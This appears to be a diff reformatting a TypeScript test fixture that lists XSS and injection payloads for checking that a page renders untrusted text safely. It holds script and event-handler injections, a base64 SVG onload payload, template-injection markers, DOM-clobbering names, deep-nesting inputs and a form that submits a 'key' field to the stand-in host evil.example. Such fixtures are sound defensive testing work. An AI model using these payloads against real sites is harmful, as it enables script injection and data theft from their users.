@@ -1,7 +1,8 @@
 // Texts that anybody may have put into a run, each meant to do something when a page shows it carelessly.
 
 const ELSEWHERE = "https://evil.example";
-const SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";
+const SVG =
+  "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";
 
 export const PAYLOADS: Readonly<Record<string, string>> = {
   script: "<script>alert(1)</script>",
@@ -35,7 +36,8 @@ export const PAYLOADS: Readonly<Record<string, string>> = {
   "form that sends": `<form action="${ELSEWHERE}"><input name="key" autofocus onfocus="alert(1)"><button>Go</button></form>`,
   "details with a handler": `<details open ontoggle="alert(1)"><summary>more</summary></details>`,
   "names of the page": `<a id="root" name="main"></a><form id="feedback"></form>`,
-  "template markers": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7} __REFLECT_NONCE__",
+  "template markers":
+    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> #{7*7} __REFLECT_NONCE__",
   "quotes and attributes": `"'><img src=x onerror=alert(1)> \` onmouseover=alert(1) x="`,
   "nested quotes": `${"> ".repeat(5_000)}deep`,
   "nested lists and brackets": `${"- ".repeat(2_000)}${"[".repeat(5_000)}${"*".repeat(5_000)}`,
